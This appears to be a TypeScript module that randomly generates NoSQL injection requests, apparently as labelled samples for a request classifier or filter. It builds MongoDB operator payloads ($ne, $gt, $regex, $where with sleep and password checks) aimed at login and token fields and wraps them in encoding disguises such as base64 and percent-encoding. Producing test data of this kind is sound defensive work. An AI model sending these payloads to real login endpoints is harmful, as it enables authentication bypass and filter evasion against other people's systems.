import type { Random } from "../../../demo/random.ts";
import type { Draft } from "../../request.ts";
import { createGenerator, type WholeRequest } from "../attack-generator.ts";
import * as disguise from "../disguises.ts";
import { plainDraft, plainValue, word } from "../frame.ts";
import { characters } from "../grammar.ts";

const OPERATORS = [
  "$ne",
  "$ne",
  "$ne",
  "$gt",
  "$gt",
  "$gte",
  "$lt",
  "$lte",
  "$regex",
  "$regex",
  "$in",
  "$nin",
  "$exists",
  "$where",
  "$type",
  "$eq",
  "$not",
  "$size",
  "$all",
  "$mod",
  "$expr",
  "$or",
  "$jsonSchema",
  "$elemMatch",
  "$options",
];
const FIELDS = [
  "username",
  "user",
  "login",
  "email",
  "password",
  "pass",
  "pwd",
  "token",
  "role",
  "id",
  "_id",
  "code",
  "pin",
  "resetToken",
];

function operand(random: Random, operator: string): string {
  if (operator === "$where")
    return random.pick(["1==1", "this.password.length>0", "sleep(5000)||true", "return true", "function(){return 1}"]);
  if (operator === "$regex")
    return random.pick([
      ".*",
      "^a",
      `^${characters(random, "a", 1, 4)}`,
      `.{${random.between(1, 30)}}`,
      "^.*$",
      "[a-z]",
    ]);
  return random.pick(["", "", "1", "-1", "0", "null", "undefined", "true", "xyz", characters(random, "a", 1, 6)]);
}

/** user[$ne]=x&password[$gt]= */
function brackets(random: Random): string {
  const encode = random.pick([
    (text: string) => text,
    encodeURIComponent,
    (text: string) => text.replaceAll("$", "%24"),
  ]);
  const pairs = Array.from({ length: random.between(1, 3) }, () => {
    const operator = random.pick(OPERATORS);
    const field = random.chance(0.7) ? random.pick(FIELDS) : word(random);
    const deep = random.pick(["", "", "", "[0]", "[]", "[$not]"]);
    return `${encode(`${field}[${operator}]${deep}`)}=${encodeURIComponent(operand(random, operator))}`;
  });
  if (random.chance(0.4)) pairs.push(`${word(random)}=${encodeURIComponent(plainValue(random))}`);
  return pairs.join("&");
}

function condition(random: Random, depth: number): unknown {
  const operator = random.pick(OPERATORS);
  if (operator === "$in" || operator === "$nin" || operator === "$all")
    return { [operator]: random.pick([[], ["admin"], ["admin", "root", null], [""]]) };
  if (operator === "$or") return { $or: [{}, { [random.pick(FIELDS)]: random.pick(["a", "", null]) }] };
  if (operator === "$not" && depth < 2) return { $not: condition(random, depth + 1) };
  if (operator === "$exists") return { $exists: random.chance(0.7) };
  const value = operand(random, operator);
  return { [operator]: value === "null" ? null : /^-?\d+$/.test(value) && random.chance(0.5) ? Number(value) : value };
}

function login(random: Random): Draft {
  const draft = plainDraft(random);
  draft.method = "POST";
  draft.path = random.pick(["/login", "/api/login", "/api/v1/auth", "/signin", "/users/authenticate", draft.path]);
  return draft;
}

function inForm(random: Random): Draft {
  const draft = login(random);
  draft.headers["Content-Type"] = "application/x-www-form-urlencoded";
  draft.body = brackets(random);
  return draft;
}

function inQuery(random: Random): Draft {
  const draft = plainDraft(random);
  draft.query = brackets(random);
  return draft;
}

function inJson(random: Random): Draft {
  const draft = login(random);
  draft.headers["Content-Type"] = "application/json";
  const body: Record<string, unknown> = {};
  if (random.chance(0.5)) body[random.pick(FIELDS)] = random.chance(0.5) ? "admin" : condition(random, 0);
  if (random.chance(0.3)) body[word(random)] = plainValue(random);
  body[random.pick(FIELDS)] = condition(random, 0);
  const wrapped = random.chance(0.3)
    ? { [random.pick(["filter", "where", "query", "selector", "user", "variables"])]: body }
    : body;
  draft.body = JSON.stringify(wrapped, null, random.pick([0, 0, 1, 2]));
  return draft;
}

const whole: WholeRequest[] = [
  { shape: "operators-in-query", write: inQuery },
  { shape: "operators-in-form", write: inForm },
  { shape: "operators-in-json", write: inJson },
  { shape: "operators-in-json", write: inJson },
];

/** Operators and code of MongoDB, CouchDB, Redis, Elasticsearch and graph databases. */
export const nosqli = createGenerator({
  class: "nosqli",
  weight: 9,
  disguises: [
    disguise.percentOnce,
    disguise.percentTwice,
    disguise.unicodeEscapes,
    disguise.looseSpaces,
    disguise.someProse,
    disguise.base64,
  ],
  whole,
  wholeShare: 0.5,
});
